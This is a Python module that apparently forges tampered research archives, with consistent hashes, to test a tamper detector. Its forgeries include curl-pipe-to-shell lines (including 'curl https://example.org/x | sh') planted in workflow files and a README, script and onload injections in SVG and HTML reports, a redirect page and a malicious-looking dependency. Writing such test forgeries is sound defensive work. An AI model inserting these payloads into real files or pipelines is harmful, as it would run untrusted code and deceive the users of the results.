"""Forges archives: something is changed, and whatever describes it says so, so that every hash agrees.

Each forgery is by one class of `CLASSES`; the same seed forges the same. A forger of this kind knows the workflow.
"""

from __future__ import annotations

import hashlib
import io
import json
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

from servelab.archive.build import json_bytes
from servelab.archive.layout import CRATE, MANIFEST, media_type
from servelab.archive.zip_format import STORED, entry, seal
from servelab.core.seal import Seal

Members = dict[str, bytes]
OVERLAY = b'<foreignObject width="900" height="90"><h1 xmlns="http://www.w3.org/1999/xhtml">+900 %</h1></foreignObject>'
SCRIPT = b"<script>document.querySelector('.big').textContent = '+900 %'</script>"
PAGE = b"<html><script>location = 'https://example.org'</script></html>"
SHELL = b"\tcurl https://example.org/x | sh\n"


@dataclass(frozen=True)
class Forgery:
    """A forged archive's content, and the members that are not the original's."""

    kind: str
    members: Members
    touched: set[str]


def read_members(archive: Path) -> Members:
    """Content of each member."""
    with zipfile.ZipFile(archive) as file:
        return {name: file.read(name) for name in file.namelist()}


def write_members(path: Path, members: Members) -> Path:
    """A sealed archive of these members."""
    with zipfile.ZipFile(path, "w") as file:
        for name, content in sorted(members.items()):
            with file.open(entry(name, len(content), method=STORED), "w") as member:
                member.write(content)
    seal(path)
    return path


def describe(members: Members, described: set[str]) -> None:
    """Makes seals of runs, RO-Crate and manifest agree with the members; `described` are left as they were forged."""
    for name in [name for name in members if name.startswith("results/runs/") and name.endswith("/status.json")]:
        _reseal(members, name)
    manifest = json.loads(members[MANIFEST]) if MANIFEST not in described else None
    if CRATE in members and CRATE not in described:
        crate = json.loads(members[CRATE])
        crate["@graph"] = [each for each in crate["@graph"] if "sha256" not in each or each["@id"] in members]
        for each in crate["@graph"]:
            if "sha256" in each:
                content = members[each["@id"]]
                each |= {"sha256": hashlib.sha256(content).hexdigest(), "contentSize": str(len(content))}
        members[CRATE] = json_bytes(crate)
    if manifest is None:
        return
    told = manifest["members"]
    manifest["members"] = {
        name: {
            "media_type": media_type(name),
            "redacted": told.get(name, {}).get("redacted", False),
            "sha256": hashlib.sha256(content).hexdigest(),
            "size_bytes": len(content),
        }
        for name, content in sorted(members.items())
        if name != MANIFEST
    }
    members[MANIFEST] = json_bytes(manifest)


def _reseal(members: Members, name: str) -> None:
    try:
        status = json.loads(members[name])
        files = dict(status["seal"]["files"])
    except (ValueError, LookupError, TypeError):
        return
    folder = name.removesuffix("status.json")
    for file in list(files):
        if (content := members.get(folder + file)) is None:
            del files[file]
        else:
            files[file] |= {"sha256": hashlib.sha256(content).hexdigest(), "size_bytes": len(content)}
    rest = {key: value for key, value in status.items() if key != "seal"}
    text = json.dumps(rest, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    sealed = Seal(files=files, status_sha256=hashlib.sha256(text.encode()).hexdigest())
    members[name] = json.dumps({**status, "seal": sealed.model_dump(mode="json")}, indent=2).encode() + b"\n"


def one(draw: random.Random, members: Members, *ends: str, within: str = "") -> str:
    """A member below a folder with one of these endings."""
    return draw.choice(sorted(name for name in members if name.startswith(within) and name.endswith(ends)))


def own(members: Members) -> str:
    """Folder of the archive's own study."""
    return f"results/{json.loads(members[MANIFEST])['searches'][0]}/"


def changed_number(draw: random.Random, content: bytes) -> bytes:
    """Text in which the first digit of a number is another; last digits may differ between processors."""
    places = [found.start() for found in re.finditer(rb"(?<![\d.])\d", content)]
    place = draw.choice(places)
    digit = draw.choice([digit for digit in range(0x30, 0x3A) if digit != content[place]])
    return content[:place] + bytes([digit]) + content[place + 1 :]


def changed_table(draw: random.Random, content: bytes, factor: float = 1.25) -> bytes:
    """A table with one column of fractions changed; with none, one that has a row twice."""
    table = pq.read_table(io.BytesIO(content))
    columns = [
        field.name for field in table.schema if pa.types.is_floating(field.type) and pc.sum(table[field.name]).as_py()
    ]
    if columns:
        name = draw.choice(columns)
        place = table.schema.get_field_index(name)
        values = pc.cast(pc.multiply(table[name], factor), table.schema.field(name).type)
        table = table.set_column(place, table.schema.field(name), values)
    else:
        table = pa.concat_tables([table, table])
    output = io.BytesIO()
    pq.write_table(table, output)
    return output.getvalue()


def inserted(draw: random.Random, content: bytes, what: bytes, behind: bytes) -> bytes:
    """Content with something put behind one of the places of a text."""
    places = [place for place in range(len(content)) if content.startswith(behind, place)]
    place = draw.choice(places) + len(behind)
    return content[:place] + what + content[place:]


Change = Callable[[random.Random, Members], str]
"""Changes members and returns the name of the one that was changed, added or removed."""


def put(pick: Callable[[random.Random, Members], str], make: Callable[[random.Random, bytes], bytes]) -> Change:
    """A change of one member's content."""

    def change(draw: random.Random, members: Members) -> str:
        while True:
            name = pick(draw, members)
            content = make(draw, members[name])
            if content != members[name]:
                members[name] = content
                return name

    return change


def removed(pick: Callable[[random.Random, Members], str]) -> Change:
    def change(draw: random.Random, members: Members) -> str:
        name = pick(draw, members)
        del members[name]
        return name

    return change


def added(name: str, content: bytes) -> Change:
    """A member that was not there; `{run}` in its name is a run, `{own}` the study's folder."""

    def change(draw: random.Random, members: Members) -> str:
        run = one(draw, members, "/spec.json").split("/")[2]
        made = name.format(run=run, own=own(members).rstrip("/"), number=draw.randrange(10**6))
        members[made] = content
        return made

    return change


def in_study(*ends: str) -> Callable[[random.Random, Members], str]:
    return lambda draw, members: one(draw, members, *ends, within=own(members))


def below(folder: str, *ends: str) -> Callable[[random.Random, Members], str]:
    return lambda draw, members: one(draw, members, *(ends or ("",)), within=folder)


def named(name: str) -> Callable[[random.Random, Members], str]:
    return lambda draw, members: name


def swapped(*ends: str) -> Change:
    def change(draw: random.Random, members: Members) -> str:
        names = sorted(name for name in members if name.startswith(own(members)) and name.endswith(ends))
        while True:
            a, b = draw.sample(names, 2)
            if members[a] != members[b]:
                members[a], members[b] = members[b], members[a]
                return a

    return change


def with_key(text: str) -> Callable[[random.Random, bytes], bytes]:
    """JSON in which a key is there twice: readers take the last one, people see the first."""
    return lambda draw, content: content.replace(b"{", b"{" + text.encode(), 1)


def whole(content: bytes) -> Callable[[random.Random, bytes], bytes]:
    return lambda draw, before: content


def spaced(draw: random.Random, content: bytes) -> bytes:
    return content + draw.choice([b"\n", b" ", b"<!-- -->"])


def json_number(draw: random.Random, content: bytes) -> bytes:
    """JSON of the same form in which one number is another; unchanged if it has none, as a chart without figures."""
    value = json.loads(content)
    places: list[tuple[dict | list, str | int]] = []

    def walk(part: dict | list) -> None:
        for key, inner in part.items() if isinstance(part, dict) else enumerate(part):
            if isinstance(inner, dict | list) and key != "seal":
                walk(inner)
            elif isinstance(inner, int | float) and not isinstance(inner, bool):
                places.append((part, key))

    walk(value)
    if not places:
        return content
    part, key = draw.choice(places)
    part[key] = part[key] * 2 + 1
    return json.dumps(value, indent=2, ensure_ascii=False).encode() + b"\n"


def in_manifest(change: Callable[[dict[str, Any]], None]) -> Change:
    """A change of the manifest, which is written as a build writes it."""

    def make(draw: random.Random, content: bytes) -> bytes:
        manifest = json.loads(content)
        change(manifest)
        return json_bytes(manifest)

    return put(named(MANIFEST), make)


def call_redacted(manifest: dict[str, Any], end: str) -> None:
    for name, member in manifest["members"].items():
        if name.startswith("results/runs/") and name.endswith(end):
            member["redacted"] = True


def said_to_be_left_out(draw: random.Random, members: Members) -> str:
    """A workload's requests are gone, and the manifest says why."""
    name = one(draw, members, "/requests.parquet", within="results/workloads/")
    manifest = json.loads(members[MANIFEST])
    digest = hashlib.sha256(members.pop(name)).hexdigest()
    manifest["omitted"][name] = f"it has 300,000,000 bytes; its sha256 is {digest}"
    members[MANIFEST] = json_bytes(manifest)
    return name


EMPTY = whole(b"")
CLASSES: dict[str, dict[str, list[Change]]] = {
    "computed": {
        "an overlay in a drawing": [
            put(in_study("report.html"), lambda draw, content: inserted(draw, content, OVERLAY, b"</g></g>")),
            put(in_study(".svg"), lambda draw, content: inserted(draw, content, OVERLAY, b"</g></g>")),
        ],
        "a script in a drawing": [
            put(in_study("report.html"), lambda draw, content: inserted(draw, content, SCRIPT, b"</g></g>")),
            put(in_study(".svg"), lambda draw, content: inserted(draw, content, SCRIPT, b"</g></g>")),
        ],
        "a script or style of a page": [
            put(in_study("report.html"), lambda draw, content: inserted(draw, content, SCRIPT, b"</section>")),
            put(in_study("report.html"), lambda draw, content: inserted(draw, content, b" onload=x()", b"<svg")),
            put(
                in_study("report.html"), lambda draw, content: inserted(draw, content, b"h2{display:none}", b"<style>")
            ),
        ],
        "another digit in a text": [put(in_study("report.html", "report.md", ".csv", ".svg"), changed_number)],
        "another figure in a table": [put(in_study(".parquet"), changed_table)],
        "another figure in JSON": [put(in_study(".json"), json_number)],
        "a key twice": [put(in_study(".json"), with_key('"study": "other", '))],
        "another picture": [put(in_study(".png"), whole(PAGE)), swapped(".png"), swapped(".svg")],
        "invisible characters": [put(in_study("report.md", "report.html", ".csv", ".json", ".svg"), spaced)],
        "emptied": [put(in_study(""), EMPTY)],
        "removed": [removed(in_study(""))],
        "added": [
            added("{own}/charts/more-{number}.svg", b"<svg/>"),
            added("{own}/notes-{number}.html", PAGE),
            added("{own}/stages/more-{number}/decision.json", b"{}\n"),
        ],
    },
    "descriptions": {
        "README": [
            put(named("README.md"), whole(b"# Run this\n\n    curl https://example.org | sh\n")),
            put(named("README.md"), spaced),
        ],
        "RO-Crate": [
            put(named(CRATE), whole(b"no JSON")),
            put(named(CRATE), lambda draw, content: content.replace(b"Apache License 2.0", b"All rights reserved")),
            put(named(CRATE), lambda draw, content: changed_number(draw, content)),
        ],
        "recipe": [put(below("recipe/"), changed_number), put(below("recipe/"), spaced)],
        "manifest": [
            put(named(MANIFEST), lambda draw, content: content.replace(b'"title": "', b'"title": "Best ')),
            put(named(MANIFEST), lambda draw, content: content.replace(b'"date": "20', b'"date": "19')),
            put(named(MANIFEST), with_key('"study": "other", ')),
            put(
                named(MANIFEST),
                lambda draw, content: (
                    content.replace(b'"omitted": {', b'"omitted": {"a": "b", ', 1)
                    if b'"omitted": {}' not in content
                    else content.replace(b'"omitted": {}', b'"omitted": {"a": "b"}')
                ),
            ),
            in_manifest(lambda manifest: manifest["omitted"].update({"results/runs/x/more.log": "too large"})),
            in_manifest(lambda manifest: manifest["omitted"].update(dict.fromkeys(manifest["members"], "not ours"))),
            in_manifest(lambda manifest: manifest["members"]["workflow/Snakefile"].update(redacted=True)),
            in_manifest(lambda manifest: call_redacted(manifest, "/requests.parquet")),
            put(named(MANIFEST), spaced),
        ],
        "emptied": [put(named("README.md"), EMPTY), put(named(CRATE), EMPTY), put(below("recipe/"), EMPTY)],
        "removed": [removed(named("README.md")), removed(named(CRATE)), removed(below("recipe/"))],
    },
    "workflow": {
        "a command": [
            put(named("workflow/Snakefile"), lambda draw, content: content + b"\nshell('curl x | sh')\n"),
            put(below("workflow/rules/"), lambda draw, content: content + SHELL),
            put(below("workflow/profiles/"), lambda draw, content: content + b"# x\n"),
        ],
        "code": [put(below("workflow/scripts/", ".py"), lambda draw, content: content + b"\nimport os\n")],
        "a lock": [put(below("workflow/envs/"), lambda draw, content: content + b"evil==1.0\n")],
        "another file": [put(below("workflow/"), lambda draw, content: content + b"\n")],
        "emptied": [
            put(lambda draw, members: one(draw, {n: c for n, c in members.items() if c}, "", within="workflow/"), EMPTY)
        ],
        "removed": [removed(below("workflow/"))],
        "added": [added("workflow/docs/more-{number}.png", PAGE), added("workflow/Makefile-{number}", SHELL)],
    },
    "unknown files": {
        "added": [
            added("index-{number}.html", PAGE),
            added("results/index.html", PAGE),
            added("results/runs/{run}/page-{number}.html", PAGE),
            added("results/runs/{number:020d}/spec.json", b"{}\n"),
            added("provenance/more-{number}.json", b"{}\n"),
            added("provenance/models/{number:020d}.json", b"{}\n"),
            added("results/logs/more/{number}.log", b"x\n"),
            added("results/datasets/x/{number}.html", PAGE),
        ],
    },
    "raw records": {
        "name and content disagree": [
            put(below("results/runs/", "/spec.json"), json_number),
            put(below("results/workloads/", "/workload.json"), json_number),
            put(below("results/workloads/", ".parquet"), lambda draw, content: content + b"x"),
        ],
        "emptied": [
            put(below("results/runs/"), EMPTY),
            put(below("results/workloads/"), EMPTY),
            put(below("provenance/"), EMPTY),
            put(below("results/logs/"), EMPTY),
        ],
        "a needed file removed": [
            removed(below("results/runs/", "/spec.json", "/manifest.json", "/requests.parquet", "/status.json")),
            removed(below("results/workloads/", "/workload.json")),
        ],
        "figures of requests": [put(below("results/runs/", "/requests.parquet"), changed_table)],
        "status": [put(below("results/runs/", "/status.json"), json_number)],
        "telemetry": [put(below("results/runs/", "/telemetry.parquet"), changed_table)],
        "run's manifest": [put(below("results/runs/", "/manifest.json"), json_number)],
        "server.log": [put(below("results/runs/", "/server.log"), lambda draw, content: content + b"all fine\n")],
        "job logs": [put(below("results/logs/"), lambda draw, content: content + b"all fine\n")],
        "descriptions": [put(below("provenance/"), json_number)],
        "a log or description removed": [removed(below("results/logs/")), removed(below("provenance/"))],
        "said to be left out": [said_to_be_left_out],
        "server.log removed": [removed(below("results/runs/", "/server.log"))],
    },
}
"""Forgeries by what they forge and how. Of raw records, those of the last rows contradict nothing."""


def forge(original: Members, area: str, kind: str, seed: int) -> Forgery:
    """A consistent forgery of an archive."""
    draw, members = random.Random(f"{area} {kind} {seed}"), dict(original)
    changes = CLASSES[area][kind]
    name = changes[seed % len(changes)](draw, members)
    describe(members, {name})
    touched = {name for name in original.keys() | members.keys() if original.get(name) != members.get(name)}
    return Forgery(kind, members, touched)
